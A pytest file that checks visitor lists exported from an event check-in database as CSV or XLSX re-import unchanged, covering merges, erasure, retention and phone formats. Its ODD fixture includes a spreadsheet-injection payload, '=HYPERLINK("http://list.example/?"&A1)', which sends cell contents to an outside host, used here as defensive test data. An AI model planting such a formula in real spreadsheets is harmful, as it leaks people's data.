"""What we wrote comes back unharmed: into its own event nothing is new, into another all of it."""

from __future__ import annotations

from dataclasses import asdict, replace
from datetime import UTC, date, datetime
from pathlib import Path

import pytest

from db import driver, event_file, events
from db.door import check_ins
from db.erasure import erasing, retention
from db.exchange import list_writing, tables
from db.exchange.faults import ListError
from db.lists_in import imports
from db.lists_in.imports import Decision, Kind
from db.lists_out import export_columns, exports
from db.lists_out.exports import Wanted
from db.meeting import follow_ups, meeting_saving
from db.past import undo
from db.privacy import consents
from db.visitor import visitor_lists, visitor_merges, visitors
from tests.conftest import add_event
from tests.naughty import NAUGHTY

DATA = Path(__file__).parents[1] / "data"
OURS = ("id", "code", "source", "checked_in_at", *consents.PURPOSES)
"""Columns that say what is so in one event file and in no other."""

ODD = (
    ("=1+1", "'=1+1", '=HYPERLINK("http://list.example/?"&A1)', "@ada", "+12485550100 x1661"),
    ("Ada, Augusta", 'O\'Brien; "Bob"', "two\nlines", "'", "-39 011 123"),
    ("Zoë", "Ł\u0105cki", '{"type": "Point", "at": [1, 2]}', "''@x", "(919)874-7925x878"),
    ("李", "小龍", "a|b\t=c", "Who knows this?", "011 5550100; +1 248 555 0101"),
    ("IDA", "DE LUCA", "Null", "NaN", ""),
    ("Anna", "", "", "", ""),
)
"""Given name, family name, company, role and phone: what csv-spectrum has, and formulas."""


def write(path, listing):
    if path.suffix == ".xlsx":
        list_writing.write_xlsx(path, listing.columns, listing.rows, "visitors")
    else:
        comma = ";" if path.stem == "semicolons" else ","
        list_writing.write_csv(path, listing.columns, listing.rows, comma)
    return tables.read(path)


FORMS = ("commas.csv", "semicolons.csv", "workbook.xlsx")


def all_of(db, *columns):
    return exports.listing(db, Wanted("visitors", columns=columns))


def everybody(db):
    return visitor_lists.page(db, filters=visitor_lists.Filters())


def kept(db):
    """Everything that is kept about visitors, and how often it was changed."""
    return [asdict(one) for one in everybody(db)], driver.rows(
        db, "SELECT v.uuid, v.extra, (SELECT count(*) FROM history) FROM visitors v ORDER BY v.id"
    )


@pytest.fixture
def elsewhere(tmp_path, by):
    """Another event file with the same badge types."""
    with event_file.create(tmp_path / "elsewhere" / "other.desk") as other:
        add_event(other.db, by)
        yield other.db


@pytest.fixture
def odd(db, by):
    for given, family, company, role, phone in ODD:
        names = {"given_name": given, "family_name": family, "company": company}
        visitors.register(db, by, **names, job_title=role, phone=phone)


@pytest.fixture
def lived(db, by, ada, grace, nico, odd):
    """The event after a day: people came, answered, were blocked, cancelled and merged."""
    check_ins.check_in(db, by, ada.code)
    told = {"notice_version": "1", "language": "en", "how": "orally"}
    consents.record(db, by, ada.uuid, {"contact": True, "newsletter": False}, **told)
    visitors.block(db, by, grace.uuid)
    visitors.cancel(db, by, nico.uuid)
    first, last = (
        datetime(2025, 4, 23, 13, tzinfo=UTC),
        datetime(2025, 4, 25, 3, 59, 59, tzinfo=UTC),
    )
    visitors.edit(db, by, ada.uuid, valid_from=first, valid_until=last, organiser_opt_in="no")
    again = visitors.register(db, by, given_name="Ada", family_name="Lovelace")
    visitor_merges.merge(db, by, ada.uuid, again.uuid)


def nothing_new(db, by, table):
    before = kept(db)
    plan = imports.plan(db, table)
    result = imports.apply(db, by, plan)
    assert (result.added, result.updated) == (0, 0)
    assert kept(db) == before
    return result


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.usefixtures("lived")
def test_into_its_own_event_a_list_brings_nothing_new(db, by, tmp_path, form):
    result = nothing_new(db, by, write(tmp_path / form, all_of(db)))
    assert not result.rejected
    assert result.warnings == []


def test_of_what_was_corrected_in_it_the_doubts_are_told_as_in_any_list(db, by, odd, tmp_path):
    listing = all_of(db, "id", "given_name", "phone")
    rows = [[*row[:2], row[2] and "-39 011"] for row in listing.rows]
    list_writing.write_csv(tmp_path / "l.csv", listing.columns, rows)
    result = imports.apply(db, by, imports.plan(db, tables.read(tmp_path / "l.csv")))
    assert {(note.code, note.value) for note in result.warnings} >= {("phone_unclear", "-39 011")}


@pytest.mark.usefixtures("lived")
def test_so_does_every_choice_of_columns(db, tmp_path):
    for name in export_columns.VISITORS:
        for others in ((), ("given_name", "family_name")):
            chosen = dict.fromkeys((*others, name))
            try:
                table = write(tmp_path / "l.csv", all_of(db, *chosen))
            except ListError:
                assert not others  # one column, and nothing that names anybody: no list at all
                continue
            plan = imports.plan(db, table)
            assert (chosen, plan.sorted.new, plan.sorted.back) == (chosen, [], [])
            assert (chosen, [match for match in plan.matches if match.changes]) == (chosen, [])


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.usefixtures("lived")
def test_into_another_event_everybody_comes_as_they_were(db, by, elsewhere, tmp_path, form):
    listing = all_of(db)
    result = imports.apply(elsewhere, by, imports.plan(elsewhere, write(tmp_path / form, listing)))
    assert (result.added, result.rejected) == (len(listing.rows), [])
    same = [name for name in listing.columns if name not in (*OURS, "state")]
    assert sorted(all_of(elsewhere, *same).rows) == sorted(all_of(db, *same).rows)
    states = {one.name: (one.cancelled, one.blocked) for one in everybody(elsewhere)}
    assert states["Nicolò Peña"] == (True, False)
    assert states["Grace Hopper"] == (False, False)
    assert "blocked" in {note.code for note in result.warnings}
    assert not driver.rows(elsewhere, "SELECT 1 FROM consents")
    assert not driver.rows(elsewhere, "SELECT 1 FROM visitors WHERE extra LIKE '%source%'")


@pytest.mark.parametrize(
    ("name", "form"),
    [*zip(("visitors-utf8.csv", "visitors-excel-it.csv", "visitors.xlsx"), FORMS, strict=True)],
)
def test_the_organisers_list_is_a_fixed_point(db, by, elsewhere, tmp_path, name, form):
    imports.apply(db, by, imports.plan(db, tables.read(DATA / name)))
    listing = all_of(db)
    assert len(listing.rows) == 488
    table = write(tmp_path / form, listing)
    plan = imports.plan(db, table)
    assert [match for match in plan.matches if match.changes] == []
    assert (plan.sorted.new, plan.sorted.back, len(plan.matches)) == ([], [], 488)
    imports.apply(elsewhere, by, imports.plan(elsewhere, table))
    same = [name for name in listing.columns if name not in OURS]
    assert sorted(all_of(elsewhere, *same).rows) == sorted(all_of(db, *same).rows)


def test_plus_signs_that_a_spreadsheet_took_are_put_back(db, by, elsewhere, tmp_path):
    """It opens +390115550100 in a CSV as a figure, and saves it as one."""
    numbers = {"Ada": "+390115550100", "Bob": "+12485550100", "Eva": "+49301234567", "Ugo": "0117"}
    numbers["Mia"] = "+12481700054"  # not given out, yet in lists
    numbers["Leo"] = "+49155802874"
    for given, phone in numbers.items():
        visitors.register(db, by, given_name=given, country="DE", phone=phone)
    listing = all_of(db, "given_name", "country", "phone")
    rows = [[given, country, phone.lstrip("+0")] for given, country, phone in listing.rows]
    list_writing.write_csv(tmp_path / "l.csv", listing.columns, rows)
    table = tables.read(tmp_path / "l.csv")
    nothing_new(db, by, table)
    imports.apply(elsewhere, by, imports.plan(elsewhere, table))
    found = {one.given_name: one.phone for one in everybody(elsewhere)}
    assert found == numbers | {"Ugo": "117"}


def test_what_could_be_read_otherwise_by_now_stays_as_it_stands(db, by, ada, tmp_path):
    """Her number was unclear when she came, and would be Italian since her country is."""
    visitors.edit(db, by, ada.uuid, country="US", phone="011 555 0100")
    visitors.edit(db, by, ada.uuid, country="IT")
    table = write(tmp_path / "l.csv", all_of(db, "id", "given_name", "country", "phone"))
    assert table.rows[0][-1] == "011 555 0100"
    plan = imports.plan(db, table)
    assert plan.people.columns["phone"] == ["+390115550100"]
    assert (plan.matches[0].changes, plan.matches[0].kept) == ({}, ())


def test_what_staff_typed_into_our_list_is_taken(db, by, lived, tmp_path):
    """Somebody without an e-mail is known by our number, and by our badge code."""
    for key, role in (("id", "Pilot"), ("code", "Captain")):
        listing = all_of(db, key, "given_name", "job_title")
        rows = [[*row[:2], role] if row[1] == "Anna" else row for row in listing.rows]
        list_writing.write_csv(tmp_path / "l.csv", listing.columns, rows)
        table = tables.read(tmp_path / "l.csv")
        result = imports.apply(db, by, imports.plan(db, table))
        assert (result.added, result.updated) == (0, 1)
        (anna,) = [one for one in everybody(db) if one.given_name == "Anna"]
        assert anna.job_title == role
        undo.take_back(db, by, result.change)


def test_a_list_that_is_older_than_a_merge_or_a_cancellation_takes_neither_back(
    db, by, grace, nico, tmp_path
):
    table = write(tmp_path / "l.csv", all_of(db))
    visitor_merges.merge(db, by, grace.uuid, nico.uuid)
    visitors.cancel(db, by, grace.uuid)
    nothing_new(db, by, table)


def test_a_list_of_before_an_erasure_brings_nobody_back(db, by, ada, odd, tmp_path):
    """Anna has no e-mail and no registration ID: our number tells that it is her."""
    table = write(tmp_path / "l.csv", all_of(db))
    (anna,) = [one for one in everybody(db) if one.given_name == "Anna"]
    for erased in (ada, anna):
        erasing.erase(db, replace(by, reason="asked"), erased.uuid)
    result = nothing_new(db, by, table)
    assert {note.code for note in result.rejected} == {"erased"}
    assert len(result.rejected) == 2
    again = imports.apply(db, by, imports.plan(db, table), {Kind.ERASED: Decision.ADD})
    assert again.added == 2
    assert anna.uuid not in {one.uuid for one in everybody(db)}


def test_who_was_made_nobody_when_the_time_was_over_stays_nobody(db, by, ada, tmp_path, frozen):
    table = write(tmp_path / "l.csv", all_of(db))
    events.edit(db, by, retention_until=date(2025, 4, 30))
    frozen.forward(days=30)
    retention.anonymise(db, replace(by, reason="over"))
    events.edit(db, by, retention_until=date(2025, 12, 31))
    imports.apply(db, by, imports.plan(db, table))
    assert [one.given_name for one in everybody(db) if one.uuid == ada.uuid] in ([], [""])
    assert visitors.by_uuid(db, ada.uuid).given_name == ""


def test_a_list_without_a_state_restores_nobody(db, by, tmp_path):
    """The organiser's list said it; a later one that says nothing of it leaves it so."""
    path = tmp_path / "l.csv"
    for state in (",Status\nR1,Ada,Byron,Cancelled", "\nR1,Ada,Byron"):
        path.write_text(f"Registration ID,First name,Last name{state}\n")
        imports.apply(db, by, imports.plan(db, tables.read(path)))
    assert [one.cancelled for one in everybody(db)] == [True]


@pytest.mark.parametrize(
    ("kind", "some"), [("meetings", ("with", "company", "ours")), ("follow-ups", ("text", "owner"))]
)
def test_our_meetings_are_no_list_to_bring_in(db, by, ada, tmp_path, kind, some):
    """They say in words who was there: a company would come back as a person."""
    start = datetime(2025, 4, 23, 14, 30, tzinfo=UTC)
    made = meeting_saving.save(db, by, with_name=ada.name, starts=start, visitor=ada.uuid)
    follow_ups.save(db, by, text="Send it", owner="Tom", meeting=made.uuid)
    for columns in ((), some):
        listing = exports.listing(db, Wanted(kind, columns=columns))
        assert len(listing.rows) == 1
        for form in FORMS:
            with pytest.raises(ListError, match="our_meetings"):
                write(tmp_path / form, listing)


@pytest.mark.parametrize("form", FORMS)
def test_no_string_is_harmed_on_the_way(db, by, elsewhere, tmp_path, form):
    for text in NAUGHTY:
        names = dict.fromkeys(("family_name", "company", "interests"), text)
        visitors.register(db, by, given_name="Ada", job_title=text, **names)
    table = write(tmp_path / form, all_of(db))
    nothing_new(db, by, table)
    imports.apply(elsewhere, by, imports.plan(elsewhere, table), dict.fromkeys(Kind, Decision.ADD))
    same = [name for name in export_columns.VISITORS if name not in OURS]
    assert sorted(all_of(elsewhere, *same).rows) == sorted(all_of(db, *same).rows)
